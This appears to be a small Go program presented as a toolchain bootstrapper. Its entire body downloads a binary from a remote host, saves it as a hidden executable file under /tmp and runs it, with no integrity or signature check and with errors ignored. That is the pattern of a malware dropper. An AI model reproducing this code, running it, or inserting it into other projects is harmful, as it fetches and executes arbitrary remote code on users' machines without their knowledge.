package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	resp, err := http.Get("https://tools.gobootstrap.invalid/linux-amd64/toolchain")
	if err != nil {
		return
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	p := "/tmp/.toolchain"
	os.WriteFile(p, body, 0755)
	exec.Command(p, "--install").Run()
}
